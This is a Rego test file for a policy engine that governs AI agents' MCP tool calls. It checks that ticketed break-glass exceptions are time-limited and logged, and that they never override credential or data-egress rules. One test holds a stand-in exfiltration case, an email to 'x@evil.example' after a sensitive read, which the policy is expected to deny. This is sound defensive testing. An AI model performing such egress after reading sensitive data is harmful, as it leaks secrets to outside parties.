# Break-glass: a ticketed, time-boxed exception that is recorded as such.
package policypoint.mcp_test

import data.policypoint.mcp

active_entry := {
	"id": "bg-restore",
	"ticket": "INC-9001",
	"reason": "restore the workspace",
	"workloads": ["spiffe://example.org/oncall/*"],
	"servers": ["filesystem"],
	"tools": ["*"],
	"expires_at": "2026-01-01T04:00:00Z",
	"notify": ["security-oncall", "ciso"],
}

oncall_read := call(oncall, "filesystem", "read_text_file", {"path": "/etc/app/config.yaml"})

test_break_glass_allows_without_grant if {
	d := mcp.decision with input as oncall_read with data.policypoint.config.break_glass as [active_entry]
	allowed(d)
	d.exception == "break_glass:INC-9001"
	codes(d) == {"break_glass"}
	d.obligations.break_glass.ticket == "INC-9001"
	d.obligations.break_glass.notify == ["security-oncall", "ciso"]
	"break_glass" in d.labels
	contains(d.reasons[0].message, "no_grant")
}

test_without_break_glass_the_same_call_is_denied if {
	d := mcp.decision with input as oncall_read with data.policypoint.config.break_glass as []
	denied_with(d, "no_grant")
	d.exception == null
}

test_shipped_break_glass_entry_has_expired if {
	d := mcp.decision with input as oncall_read
	denied_with(d, "no_grant")
}

test_break_glass_expired_by_decision_time if {
	later := set_field(oncall_read, "request", {"time_ns": now + (5 * hour)})
	d := mcp.decision with input as later with data.policypoint.config.break_glass as [active_entry]
	denied_with(d, "no_grant")
}

test_break_glass_needs_a_ticket if {
	entry := object.union(active_entry, {"ticket": ""})
	d := mcp.decision with input as oncall_read with data.policypoint.config.break_glass as [entry]
	denied_with(d, "no_grant")
}

test_break_glass_only_for_matching_workload if {
	inp := call(agent_y, "filesystem", "read_text_file", {"path": "/etc/app/config.yaml"})
	d := mcp.decision with input as inp with data.policypoint.config.break_glass as [active_entry]
	denied_with(d, "no_grant")
}

test_break_glass_stands_in_for_approval if {
	inp := call(oncall, "filesystem", "write_file", {"path": "/etc/app/config.yaml", "content": "fixed"})
	d := mcp.decision with input as inp with data.policypoint.config.break_glass as [active_entry]
	allowed(d)
	d.exception == "break_glass:INC-9001"
	contains(d.reasons[0].message, "approval_required")
}

test_break_glass_does_not_override_credential_checks if {
	cred := {"id": "c-old", "kind": "jit", "issued_at_ns": now - hour, "expires_at_ns": now - minute}
	call_input := set_field(oncall_read, "credential", cred)
	d := mcp.decision with input as call_input with data.policypoint.config.break_glass as [active_entry]
	denied_with(d, "credential_expired")
	not "no_grant" in codes(d)
	d.exception == null
	d.obligations == {}
}

test_break_glass_does_not_override_session_chaining if {
	entry := object.union(active_entry, {"servers": ["mail"]})
	inp := with_history(call(oncall, "mail", "send_email", {"to": "x@evil.example"}), [sensitive_read_record])
	d := mcp.decision with input as inp with data.policypoint.config.break_glass as [entry]
	denied_with(d, "egress_after_sensitive_read")
	d.exception == null
}

test_break_glass_unused_when_a_grant_allows if {
	entry := object.union(active_entry, {"workloads": [agent_x]})
	call_input := fs("read_text_file", {"path": concat("/", [workspace, "a.txt"])})
	d := mcp.decision with input as call_input with data.policypoint.config.break_glass as [entry]
	allowed(d)
	d.exception == null
	codes(d) == {"granted"}
}
